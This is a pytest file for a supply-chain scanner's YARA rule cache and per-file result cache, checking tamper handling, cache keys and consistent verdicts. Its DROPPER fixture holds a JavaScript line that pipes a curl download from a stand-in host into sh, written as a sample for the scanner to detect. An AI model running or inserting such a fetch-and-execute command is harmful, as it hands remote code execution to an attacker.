"""The speed caches of issue 14: saved YARA rule sets and the per-file result cache.

Neither may change a finding: a saved rule set is used only when it is whole, ours and the
one its source compiles to; a cached result only for the very bytes, path, install-time flag
and rules it was computed for.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yara

from chainwatch import scan as scan_module
from chainwatch.analysis import yaracache
from chainwatch.analysis.engine import Engine
from chainwatch.analysis.resultcache import ResultCache, rules_hash
from chainwatch.analysis.rules import load_rules
from chainwatch.model import Finding, PackageFile, PackageRef, Severity
from chainwatch.scan import Loaded, Scanner, scan_snippet_files

RULES = load_rules()
SOURCE = 'rule a { strings: $x = "evil-marker" condition: $x }\nrule b { condition: false }'
DROPPER = (b"const cp = require('child_process');\n"
           b"cp.exec('curl -s http://203.0.113.9.invalid/x.sh | sh');\n")


@pytest.fixture()
def cache_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CHAINWATCH_CACHE_DIR", str(tmp_path))
    monkeypatch.delenv("CHAINWATCH_YARA_CACHE", raising=False)
    return tmp_path / "yara"


def _saved(folder: Path) -> Path:
    (path,) = folder.glob("*.yarc")
    return path


def _no_compile(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []
    real = yara.compile

    def counting(*args: object, **kwargs: object) -> yara.Rules:
        calls.append("compile")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(yaracache.yara, "compile", counting)
    return calls


# -- saved YARA rule sets ------------------------------------------------------------------------
def test_a_saved_rule_set_is_loaded_instead_of_compiled(cache_dir: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    first = yaracache.compiled(SOURCE)
    path = _saved(cache_dir)
    assert path.stat().st_mode & 0o077 == 0  # owner-only
    calls = _no_compile(monkeypatch)
    again = yaracache.compiled(SOURCE)
    assert calls == []
    assert [m.rule for m in again.match(data=b"xx evil-marker")] == \
        [m.rule for m in first.match(data=b"xx evil-marker")] == ["a"]


def test_a_changed_source_never_reads_the_old_set(cache_dir: Path) -> None:
    yaracache.compiled(SOURCE)
    other = yaracache.compiled(SOURCE.replace("evil-marker", "other-marker"))
    assert len(list(cache_dir.glob("*.yarc"))) == 2
    assert not other.match(data=b"evil-marker") and other.match(data=b"other-marker")


@pytest.mark.parametrize("tamper", ["flip", "truncate", "magic", "empty"])
def test_a_damaged_set_is_compiled_again(cache_dir: Path, monkeypatch: pytest.MonkeyPatch,
                                         tamper: str) -> None:
    yaracache.compiled(SOURCE)
    path = _saved(cache_dir)
    raw = bytearray(path.read_bytes())
    if tamper == "flip":
        raw[-10] ^= 0xFF
    elif tamper == "truncate":
        raw = raw[: len(raw) // 2]
    elif tamper == "magic":
        raw[:4] = b"XXXX"
    else:
        raw = bytearray()
    path.write_bytes(bytes(raw))
    calls = _no_compile(monkeypatch)
    rules = yaracache.compiled(SOURCE)
    assert calls == ["compile"]
    assert [m.rule for m in rules.match(data=b"evil-marker")] == ["a"]
    assert yaracache._read(path) is not None  # saved again, whole


def test_a_whole_set_of_other_rules_is_not_believed(cache_dir: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A valid saved set copied over the name of another source (its digest is right, its
    rules are not the source's) is compiled again: a set that matches nothing would hide."""
    yaracache.compiled(SOURCE)
    path = _saved(cache_dir)
    yaracache.compiled('rule z { condition: false }')
    (other,) = [p for p in cache_dir.glob("*.yarc") if p != path]
    path.write_bytes(other.read_bytes())
    calls = _no_compile(monkeypatch)
    rules = yaracache.compiled(SOURCE)
    assert calls == ["compile"] and rules.match(data=b"evil-marker")


def test_a_set_others_may_write_is_ignored(cache_dir: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    yaracache.compiled(SOURCE)
    os.chmod(_saved(cache_dir), 0o666)
    calls = _no_compile(monkeypatch)
    yaracache.compiled(SOURCE)
    assert calls == ["compile"]


def test_a_symlinked_set_is_not_followed(cache_dir: Path, tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    yaracache.compiled(SOURCE)
    path = _saved(cache_dir)
    elsewhere = tmp_path / "elsewhere.yarc"
    path.rename(elsewhere)
    path.symlink_to(elsewhere)
    assert yaracache._read(path) is None


def test_an_unwritable_cache_dir_only_costs_a_compile(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    monkeypatch.setenv("CHAINWATCH_CACHE_DIR", str(blocker))
    assert yaracache.compiled(SOURCE).match(data=b"evil-marker")


def test_old_sets_are_pruned(cache_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yaracache, "MAX_FILES", 3)
    for n in range(6):
        yaracache.compiled(f'rule r{n} {{ condition: false }}')
    assert len(list(cache_dir.glob("*.yarc"))) == 3


def test_the_engine_matches_the_same_with_saved_rules(cache_dir: Path) -> None:
    fresh = Engine(RULES).scan_file(PackageFile("install.js", DROPPER), True)
    assert fresh, "the dropper must be found at all"
    assert list(cache_dir.glob("*.yarc"))
    assert Engine(RULES).scan_file(PackageFile("install.js", DROPPER), True) == fresh


# -- the per-file result cache ----------------------------------------------------------------
def _finding(n: int) -> Finding:
    return Finding(rule=f"R{n}", severity=Severity.LOW, technique="t", capability="c",
                   message="m")


def test_the_result_cache_is_bounded_by_entries_and_findings() -> None:
    cache = ResultCache(max_entries=3, max_findings=5)
    files = [PackageFile(f"f{n}.js", f"x{n}".encode()) for n in range(5)]
    for f in files:
        cache.put(ResultCache.key("r", f, False), [_finding(1)])
    assert len(cache) == 3
    assert cache.get(ResultCache.key("r", files[0], False)) is None  # oldest went first
    cache.put(ResultCache.key("r", files[0], False), [_finding(n) for n in range(4)])
    assert len(cache) == 2  # 4 + 1 findings fit, a third entry would not
    cache.put(ResultCache.key("r", files[1], False), [_finding(n) for n in range(9)])
    assert cache.get(ResultCache.key("r", files[1], False)) is None  # larger than the bound


def test_the_key_holds_bytes_path_install_time_and_rules() -> None:
    a = PackageFile("index.js", b"same")
    keys = {ResultCache.key("r1", a, False), ResultCache.key("r1", a, True),
            ResultCache.key("r2", a, False),
            ResultCache.key("r1", PackageFile("lib/index.js", b"same"), False),
            ResultCache.key("r1", PackageFile("index.js", b"other"), False)}
    assert len(keys) == 5
    assert ResultCache.key("r1", PackageFile("index.js", b"same"), False) in keys
    assert rules_hash(RULES) != rules_hash(RULES[1:]) and rules_hash(RULES) == rules_hash(
        load_rules())


def test_a_cached_file_is_not_analysed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    engine = Engine(RULES, ResultCache())
    file = PackageFile("install.js", DROPPER)
    first = engine.scan_file(file, True)
    assert first
    monkeypatch.setattr(engine, "_scan_file", lambda *a: pytest.fail("analysed again"))
    assert engine.scan_file(PackageFile("install.js", DROPPER), True) == first
    # the same bytes under another path or install-time flag are analysed
    with pytest.raises(pytest.fail.Exception):
        engine.scan_file(PackageFile("other.js", DROPPER), True)
    with pytest.raises(pytest.fail.Exception):
        engine.scan_file(file, False)


def test_files_no_rule_reads_take_no_cache_room() -> None:
    engine = Engine(RULES, ResultCache())
    engine.scan_file(PackageFile("README.md", b"# hello"), False)
    engine.scan_file(PackageFile("dist/a.js.map", b"{}"), False)
    assert engine.results is not None and len(engine.results) == 0


def _pkg(version: str, extra: dict[str, bytes]) -> Loaded:
    files = {"package.json": json.dumps({"name": "left-padder", "version": version,
                                         "main": "index.js"}).encode(),
             "index.js": b"module.exports = (s, n) => String(s).padStart(n);\n", **extra}
    return Loaded(PackageRef("left-padder", version), scan_snippet_files(files))


def test_verdicts_are_the_same_with_and_without_the_cache_and_the_pool(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """In process without a cache, in process with a warm cache, and in worker processes
    (forced: every size goes to the pool) give one verdict, finding for finding."""
    base = _pkg("1.0.0", {})
    bad = _pkg("1.0.1", {"lib/setup.js": DROPPER,
                         "lib/big.js": b"var a = 1;\n" * 200})
    plain = Scanner(None, workers=1)
    plain.engine.results = None
    expected = plain.analyze(bad, base)
    assert expected.findings
    cached = Scanner(None, workers=1)
    assert cached.engine.results is not None
    cached.analyze(bad, base)
    assert cached.engine.results.hits == 0
    again = cached.analyze(bad, base)
    assert cached.engine.results.hits > 0
    monkeypatch.setattr(scan_module, "PARALLEL_BYTES", 0)
    with Scanner(None, workers=2) as pooled:
        through_pool = pooled.analyze(bad, base)
        assert pooled._pool is not None
    for verdict in (again, through_pool):
        assert verdict.findings == expected.findings
        assert (verdict.level, verdict.score, verdict.capabilities) == (
            expected.level, expected.score, expected.capabilities)


def test_the_pool_is_fed_the_largest_waiting_batch_first() -> None:
    import threading
    from concurrent.futures import Future

    order: list[int] = []
    release = threading.Event()

    class HeldPool:
        def submit(self, fn: object, batch: list[tuple[PackageFile, bool]],
                   *args: object) -> Future[object]:
            order.append(sum(len(f.data) for f, _ in batch))
            done: Future[object] = Future()
            if len(order) == 1:  # the first batch holds the only worker until released
                threading.Thread(target=lambda: (release.wait(5), done.set_result([]))).start()
            else:
                done.set_result([])
            return done

    feeder = scan_module._LargestFirst(HeldPool(), 1)  # type: ignore[arg-type]
    try:
        first = feeder.submit([(PackageFile("a.js", b"x" * 5), False)])
        for _ in range(1000):  # bounded: a feeder that never hands a batch on fails, not hangs
            if order or first.done():
                break
            threading.Event().wait(0.01)
        assert order, first.exception(timeout=0)
        rest = [feeder.submit([(PackageFile("b.js", b"x" * n), False)]) for n in (10, 300, 20)]
        release.set()
        for f in (first, *rest):
            f.result(timeout=10)
        assert order == [5, 300, 20, 10]
    finally:
        feeder.close()
